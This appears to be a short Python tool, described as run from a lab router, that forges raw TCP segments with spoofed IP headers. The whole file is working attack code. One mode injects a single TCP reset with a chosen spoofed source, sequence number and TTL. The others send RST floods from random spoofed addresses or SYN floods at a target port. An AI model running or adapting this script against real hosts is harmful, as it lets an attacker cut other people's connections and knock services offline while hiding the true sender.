"""Send forged TCP segments through a raw socket (IP_HDRINCL), from the lab's router.

    forge.py SRC SPORT DST DPORT SEQ TTL                one RST with this seq and TTL
    forge.py --flood rst|syn SRC DST DPORT COUNT TTL    COUNT segments, random source ports
                                                        (rst: random sources in SRC's /16)
"""
import random
import socket
import struct
import sys

RST, SYN = 0x04, 0x02


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def segment(src: str, sport: int, dst: str, dport: int, seq: int, ttl: int, flags: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, flags, 0 if flags & RST else 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randrange(65536), 0, ttl, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def main() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rnd = random.Random(7)
    if sys.argv[1] == "--flood":
        kind, src, dst, dport, count, ttl = sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), int(sys.argv[7])
        base = src.rsplit(".", 2)[0]
        for k in range(count):
            sport = 20000 + k
            if kind == "rst":
                fake = f"{base}.{rnd.randrange(2, 250)}.{rnd.randrange(2, 250)}"
                s.sendto(segment(fake, rnd.randrange(1024, 65535), dst, sport, rnd.randrange(1 << 32), ttl, RST), (dst, 0))
            else:
                s.sendto(segment(src, sport, dst, dport, rnd.randrange(1 << 32), ttl, SYN), (dst, 0))
        return
    src, sport, dst, dport, seq, ttl = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
    s.sendto(segment(src, sport, dst, dport, seq, ttl, RST), (dst, 0))


if __name__ == "__main__":
    main()
